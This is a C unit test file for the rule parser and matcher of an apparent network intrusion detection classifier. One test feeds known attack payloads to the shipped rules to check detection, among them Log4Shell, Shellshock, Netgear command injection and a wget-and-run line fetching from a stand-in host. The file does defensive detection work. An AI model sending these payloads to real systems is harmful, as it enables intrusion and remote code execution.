/* SPDX-License-Identifier: Apache-2.0 */
#include "classify/payload_rules.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <string.h>

#include <cmocka.h>

static struct nj_intern *names;

static struct payload_rules *parse(const char *text)
{
    struct payload_rules *rules;
    struct nj_err err;

    if (payload_rules_parse(text, strlen(text), "r.txt", names, &rules, &err) < 0)
        fail_msg("%s", err.msg);
    return rules;
}

static void assert_refused(const char *text, const char *message)
{
    struct payload_rules *rules;
    struct nj_err err = {.code = NJ_OK};

    assert_int_equal(payload_rules_parse(text, strlen(text), "r.txt", names, &rules, &err), -1);
    assert_string_equal(err.msg, message);
}

/* The name of the rule that hits, "" if none does. */
static const char *hit(const struct payload_rules *rules, const char *app, uint16_t port,
                       const void *payload, size_t length)
{
    struct packet packet = {.proto = PROTO_TCP,
                            .dport = port,
                            .app = nj_intern_z(names, app),
                            .payload = payload,
                            .payload_length = (uint32_t)length};
    const struct payload_rule *found = payload_rules_find(rules, &packet);

    return found == NULL ? "" : found->name;
}
#define HIT(RULES, APP, PORT, TEXT) hit(RULES, APP, PORT, TEXT, sizeof(TEXT) - 1)

#define HEAD(NAME) "rule " NAME "\nclass exploit\nsource x\n"

static void all_patterns_of_a_line_must_be_there_and_one_line_is_enough(void **state)
{
    struct payload_rules *rules = parse(HEAD("a") "match \"one\" \"two\"\nmatch \"three\"\n");

    (void)state;
    assert_string_equal(HIT(rules, "", 1, "..one.."), "");
    assert_string_equal(HIT(rules, "", 1, "..one..one"), "");
    assert_string_equal(HIT(rules, "", 1, "two one"), "a");
    assert_string_equal(HIT(rules, "", 1, "oneTWO"), "a");
    assert_string_equal(HIT(rules, "", 1, "a THREE"), "a");
    payload_rules_free(rules);
}

static void a_circumflex_binds_a_pattern_to_the_beginning(void **state)
{
    struct payload_rules *rules =
        parse(HEAD("a") "match ^\"GET \" \"x\"\n" HEAD("b") "match \"get \" \"y\"\n");

    (void)state;
    assert_string_equal(HIT(rules, "", 1, "GET x"), "a");
    assert_string_equal(HIT(rules, "", 1, " GET x"), "");
    assert_string_equal(HIT(rules, "", 1, " GET y"), "b");
    payload_rules_free(rules);
}

static void patterns_within_patterns_are_found(void **state)
{
    struct payload_rules *rules = parse(HEAD("long") "match \"ushers\"\n" HEAD(
        "mid") "match \"hers\"\n" HEAD("short") "match \"he\"\n");

    (void)state;
    assert_string_equal(HIT(rules, "", 1, "xushers"), "long");
    assert_string_equal(HIT(rules, "", 1, "xxhers"), "mid");
    assert_string_equal(HIT(rules, "", 1, "ushe"), "short");
    assert_string_equal(HIT(rules, "", 1, "us"), "");
    payload_rules_free(rules);
}

static void the_first_rule_of_the_file_wins(void **state)
{
    struct payload_rules *rules =
        parse(HEAD("first") "match \"bbb\"\n" HEAD("second") "match \"aaa\"\n");

    (void)state;
    assert_string_equal(HIT(rules, "", 1, "aaa bbb"), "first");
    payload_rules_free(rules);
}

static void application_and_port_are_conditions(void **state)
{
    struct payload_rules *rules = parse(HEAD("a") "app http docker\nport 80 81\nmatch \"x\"\n");

    (void)state;
    assert_string_equal(HIT(rules, "http", 80, "x"), "a");
    assert_string_equal(HIT(rules, "docker", 81, "x"), "a");
    assert_string_equal(HIT(rules, "http", 82, "x"), "");
    assert_string_equal(HIT(rules, "ssh", 80, "x"), "");
    assert_string_equal(HIT(rules, "", 80, "x"), "");
    payload_rules_free(rules);
}

static void escapes_stand_for_any_byte(void **state)
{
    struct payload_rules *rules = parse(HEAD("a") "match ^\"\\x00\\xff\\\"\\\\\\r\\n\\0\"\n");

    (void)state;
    assert_string_equal(HIT(rules, "", 1, "\x00\xff\"\\\r\n\0"), "a");
    assert_string_equal(HIT(rules, "", 1, "\x00\xff\"\\\r\n"), "");
    payload_rules_free(rules);
}

static void faults_are_told_with_their_line(void **state)
{
    (void)state;
    assert_refused("class exploit\n", "r.txt:1: \"class\" before the first rule");
    assert_refused("rule a b\n",
                   "r.txt:1: rule \"a b\", expected a name of a-z, 0-9 and -, up to 40 long");
    assert_refused("rule a\nclass bad\n",
                   "r.txt:2: class \"bad\", expected exploit, credential or scan");
    assert_refused("rule a\nclass scan\nsource x\n", "r.txt:1: rule a has no match");
    assert_refused("rule a\nclass scan\nmatch \"x\"\n", "r.txt:1: rule a has no source");
    assert_refused("rule a\nsource x\nmatch \"x\"\n", "r.txt:1: rule a has no class");
    assert_refused(HEAD("a") "match \"x\n", "r.txt:4: a pattern without its last quote");
    assert_refused(HEAD("a") "match \"\"\n", "r.txt:4: an empty pattern");
    assert_refused(HEAD("a") "match x\n", "r.txt:4: \"x\", expected a pattern in quotes");
    assert_refused(HEAD("a") "match \"\\q\"\n", "r.txt:4: \"\\q\"\" is no escape");
    assert_refused(HEAD("a") "match\n", "r.txt:4: match without a pattern");
    assert_refused(HEAD("a") "match \"x\"\n" HEAD("a"), "r.txt:5: a second rule a");
    assert_refused("rule a\nport 0\n", "r.txt:2: port \"0\", expected 1 to 65535");
    assert_refused("rule a\nfrob\n", "r.txt:2: there is no \"frob\" in a rule");
}

static void the_shipped_rules_know_famous_attacks(void **state)
{
    struct payload_rules *rules;
    struct nj_err err;

    (void)state;
    if (payload_rules_load(NJ_SOURCE_DATA "/payload-rules.txt", names, &rules, &err) < 0)
        fail_msg("%s", err.msg);
    assert_string_equal(HIT(rules, "http", 80,
                            "GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://192.0.2.1/a}\r\n\r\n"),
                        "log4shell");
    assert_string_equal(HIT(rules, "http", 80,
                            "GET /cgi-bin/x HTTP/1.1\r\nUser-Agent: () { :;}; /bin/id\r\n\r\n"),
                        "shellshock");
    assert_string_equal(HIT(rules, "http", 80,
                            "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm HTTP/1.0"),
                        "netgear-setup");
    assert_string_equal(HIT(rules, "docker", 2375,
                            "POST /v1.24/containers/create HTTP/1.1\r\nHost: 192.0.2.1\r\n"),
                        "docker-create");
    assert_string_equal(HIT(rules, "redis", 6379,
                            "*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$1\r\n/\r\n"),
                        "redis-write");
    assert_string_equal(HIT(rules, "http", 37215, "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n"),
                        "huawei-hg532");
    assert_string_equal(HIT(rules, "", 23, "cd /tmp || cd /var; wget http://192.0.2.1/a; sh a"),
                        "download-and-run");
    assert_string_equal(HIT(rules, "adb", 5555, "OPEN....shell:id"), "adb-shell");
    assert_string_equal(HIT(rules, "http", 80, "GET /.env HTTP/1.1\r\n"), "dotenv-probe");
    assert_string_equal(HIT(rules, "http", 80, "GET / HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n"),
                        "");
    assert_string_equal(HIT(rules, "tls", 443, "\x16\x03\x01\x00\x05hello"), "");
    payload_rules_free(rules);
}

static int setup(void **state)
{
    (void)state;
    names = nj_intern_new(10000);
    return names == NULL;
}

static int teardown(void **state)
{
    (void)state;
    nj_intern_free(names);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(all_patterns_of_a_line_must_be_there_and_one_line_is_enough),
        cmocka_unit_test(a_circumflex_binds_a_pattern_to_the_beginning),
        cmocka_unit_test(patterns_within_patterns_are_found),
        cmocka_unit_test(the_first_rule_of_the_file_wins),
        cmocka_unit_test(application_and_port_are_conditions),
        cmocka_unit_test(escapes_stand_for_any_byte),
        cmocka_unit_test(faults_are_told_with_their_line),
        cmocka_unit_test(the_shipped_rules_know_famous_attacks),
    };

    return cmocka_run_group_tests(tests, setup, teardown);
}
